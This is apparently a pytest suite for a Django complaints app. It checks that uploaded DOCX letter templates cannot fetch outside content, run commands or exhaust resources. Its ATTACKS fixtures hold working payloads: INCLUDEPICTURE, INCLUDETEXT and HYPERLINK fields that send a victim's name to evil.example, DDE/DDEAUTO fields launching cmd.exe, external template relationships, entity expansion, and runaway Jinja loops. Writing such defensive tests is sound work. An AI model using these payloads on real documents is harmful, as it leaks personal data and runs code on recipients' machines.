"""Letter templates cannot reach outside the letter, run away, or fail with a 500.

Each crafted DOCX is a real attack on a letter that carries a victim's name:
Word would fetch a URL with the name in it, pull in another file, run a
command, or refresh every field on opening.
"""

from __future__ import annotations

import io
import re
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from docx import Document

from vigil.complaints import actions, letters
from vigil.complaints.models import GeneratedLetter, LetterTemplate
from vigil.complaints.tests.helpers import make_action, make_case
from vigil.conftest import World

W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
EVIL = "http://evil.example/x.png?n={{ victim_name }}"


def base_docx(*paragraphs: str) -> bytes:
    document = Document()
    for text in paragraphs or ("{{ victim_name }}",):
        document.add_paragraph(text)
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def rewrite(content: bytes, name: str, change) -> bytes:
    """The DOCX with part ``name`` changed by ``change(text) -> text`` (added if missing)."""
    source = zipfile.ZipFile(io.BytesIO(content))
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w", zipfile.ZIP_DEFLATED) as target:
        names = source.namelist()
        for item in names:
            data = source.read(item)
            target.writestr(item, change(data.decode()).encode() if item == name else data)
        if name not in names:
            target.writestr(name, change(""))
    return output.getvalue()


def with_body_xml(xml: str, *paragraphs: str) -> bytes:
    return rewrite(
        base_docx(*paragraphs),
        "word/document.xml",
        lambda d: d.replace("<w:sectPr", xml + "<w:sectPr", 1),
    )


def simple_field(instruction: str) -> str:
    return f'<w:p><w:fldSimple w:instr="{instruction}"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>'


def complex_field(*instruction_runs: str) -> str:
    runs = "".join(
        f'<w:r><w:instrText xml:space="preserve">{text}</w:instrText></w:r>'
        for text in instruction_runs
    )
    return (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        f"{runs}"
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


def external_relationship(part: str, kind: str) -> bytes:
    relation = (
        f'<Relationship Id="rIdEvil" Type="http://schemas.openxmlformats.org/officeDocument/'
        f'2006/relationships/{kind}" Target="http://evil.example/t.dotm" TargetMode="External"/>'
    )

    def change(data: str) -> str:
        if not data:
            return (
                '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
                '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
                f'relationships">{relation}</Relationships>'
            )
        return data.replace("</Relationships>", relation + "</Relationships>")

    return rewrite(base_docx(), part, change)


def upload(client, content: bytes):
    return client.post(
        "/complaints/templates/police_internal/ru/",
        {"file": SimpleUploadedFile("t.docx", content, content_type=letters.DOCX_MIME)},
    )


ATTACKS = {
    "includepicture_simple": with_body_xml(simple_field(f"INCLUDEPICTURE &quot;{EVIL}&quot; \\d")),
    "includepicture_split_runs": with_body_xml(
        complex_field("INCLUDE", "PICTURE ", f'"{EVIL}" \\d')
    ),
    "includetext_lowercase": with_body_xml(
        complex_field(' includetext "\\\\\\\\evil\\\\share\\\\a.docx" ')
    ),
    "link": with_body_xml(
        complex_field('LINK Excel.Sheet.12 "\\\\\\\\evil\\\\s\\\\a.xlsx" "A1" \\a')
    ),
    "hyperlink_external_simple": with_body_xml(simple_field(f"HYPERLINK &quot;{EVIL}&quot;")),
    "hyperlink_external_complex": with_body_xml(complex_field(f'HYPERLINK "{EVIL}"')),
    "dde": with_body_xml(complex_field('DDE "cmd" "/c calc" "x"')),
    "ddeauto": with_body_xml(
        simple_field("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot;")
    ),
    "nested_field": with_body_xml(
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        '<w:r><w:instrText>IF 1 = 1 "</w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        f'<w:r><w:instrText>INCLUDETEXT "{EVIL}"</w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
        '<w:r><w:instrText>"</w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    ),
    "external_image_relationship": external_relationship("word/_rels/document.xml.rels", "image"),
    "attached_template_relationship": external_relationship(
        "word/_rels/settings.xml.rels", "attachedTemplate"
    ),
    "vml_image_by_url": with_body_xml(
        '<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml">'
        '<v:imagedata src="http://evil.example/i.png"/></v:shape></w:pict></w:r></w:p>'
    ),
    "entity_expansion": rewrite(
        base_docx(),
        "word/document.xml",
        lambda d: d.replace(
            "<w:document",
            '<!DOCTYPE w:document [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]><w:document',
            1,
        ).replace("{{ victim_name }}", "&b;"),
    ),
}


@pytest.mark.parametrize("attack", sorted(ATTACKS))
def test_it_refuses_a_template_that_reaches_outside(world: World, signed_in, attack: str) -> None:
    response = upload(signed_in("coordinator", step_up=True), ATTACKS[attack])

    assert response.status_code == 200
    page = response.content.decode()
    assert "fetch or include content" in page, page[:2000]
    assert not LetterTemplate.objects.filter(organisation=world.org).exists()


def test_it_refuses_a_field_code_that_jinja_assembles_from_pieces(world: World, signed_in) -> None:
    # Each piece is harmless; the rendered letter would carry INCLUDEPICTURE.
    content = with_body_xml(complex_field("{{ 'INCLUDE' ~ 'PICTURE' }} \"http://evil.example/\""))
    response = upload(signed_in("coordinator", step_up=True), content)

    assert "fetch or include content" in response.content.decode()
    assert not LetterTemplate.objects.filter(organisation=world.org).exists()


def test_it_keeps_harmless_fields_and_an_internal_hyperlink(world: World, signed_in) -> None:
    content = with_body_xml(
        simple_field("PAGE \\* MERGEFORMAT")
        + complex_field('HYPERLINK \\l "facts"')
        + complex_field("DATE \\@ &quot;dd.MM.yyyy&quot;")
    )
    assert upload(signed_in("coordinator", step_up=True), content).status_code == 302
    assert LetterTemplate.objects.filter(organisation=world.org).exists()


def test_it_removes_update_fields_from_the_settings(world: World, signed_in) -> None:
    content = rewrite(
        base_docx(),
        "word/settings.xml",
        lambda d: d.replace("<w:zoom", '<w:updateFields w:val="true"/><w:zoom', 1),
    )
    assert b"updateFields" in zipfile.ZipFile(io.BytesIO(content)).read("word/settings.xml")

    assert upload(signed_in("coordinator", step_up=True), content).status_code == 302

    stored = bytes(LetterTemplate.objects.get(organisation=world.org).content)
    settings_xml = zipfile.ZipFile(io.BytesIO(stored)).read("word/settings.xml")
    assert b"updateFields" not in settings_xml
    assert b"<w:zoom" in settings_xml  # the rest of the settings is kept


@pytest.mark.parametrize(
    ("text", "where"),
    [
        ("{% for i in range(100000) %}x{% endfor %}", "Paragraph 2"),
        ("{{ 'x' * 100000000 }}", "Paragraph 2"),
        ("{{ 10 ** 100000000 }}", "Paragraph 2"),
        # The output limit trips outside any one paragraph.
        (
            "{% for a in range(1000) %}{% for b in range(1000) %}{{ 'y' * 1000 }}"
            "{% endfor %}{% endfor %}",
            "",
        ),
    ],
)
def test_it_refuses_a_template_that_runs_away(
    world: World, signed_in, text: str, where: str
) -> None:
    response = upload(signed_in("coordinator", step_up=True), base_docx("Before", text))

    page = response.content.decode()
    assert "repeats or produces too much" in page, page[:2000]
    assert where in page  # where, so the coordinator can fix it
    assert not LetterTemplate.objects.filter(organisation=world.org).exists()


def test_it_stops_a_template_that_takes_too_long(
    world: World, signed_in, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(letters, "RENDER_SECONDS", 1.0)
    slow = (
        "{% for a in range(1000) %}{% for b in range(1000) %}{% for c in range(1000) %}"
        "{% endfor %}{% endfor %}{% endfor %}"
    )
    response = upload(signed_in("coordinator", step_up=True), base_docx(slow))

    assert "takes too long" in response.content.decode()
    assert not LetterTemplate.objects.filter(organisation=world.org).exists()


def test_a_template_failing_on_real_data_gives_a_clear_message_naming_it(
    world: World, signed_in
) -> None:
    # Stored before the checks (or passing them with sample data), failing on this case.
    actions.save_template(
        world["coordinator"].user,
        world.org,
        body_type="police_internal",
        language="ru",
        content=base_docx("To whom", "Dear", "{{ victim_name.nope() }}"),
    )
    action = make_action(world, make_case(world))

    response = signed_in("lawyer").post(
        f"/complaints/actions/{action.pk}/letters/", {"language": "ru", "formats": ["docx"]}
    )

    assert response.status_code == 400
    page = re.sub(r"\s+", " ", response.content.decode())
    assert "cannot be used" in page
    assert "your organisation&#x27;s template" in page or "your organisation's template" in page
    assert "Paragraph 3" in page
    assert not GeneratedLetter.objects.filter(action=action).exists()


def test_a_dangerous_template_stored_before_the_checks_is_not_rendered(
    world: World, signed_in
) -> None:
    actions.save_template(
        world["coordinator"].user,
        world.org,
        body_type="police_internal",
        language="ru",
        content=ATTACKS["includepicture_simple"],
    )
    action = make_action(world, make_case(world))

    response = signed_in("lawyer").post(
        f"/complaints/actions/{action.pk}/letters/", {"language": "ru", "formats": ["docx"]}
    )

    assert response.status_code == 400
    assert "fetch or include content" in response.content.decode()
    assert not GeneratedLetter.objects.filter(action=action).exists()


def test_the_shared_template_still_renders_and_carries_no_update_fields(
    world: World, signed_in
) -> None:
    action = make_action(world, make_case(world))
    response = signed_in("lawyer").post(
        f"/complaints/actions/{action.pk}/letters/", {"language": "uk", "formats": ["docx"]}
    )
    assert response.status_code == 302
    assert GeneratedLetter.objects.filter(action=action, format="docx").count() == 1
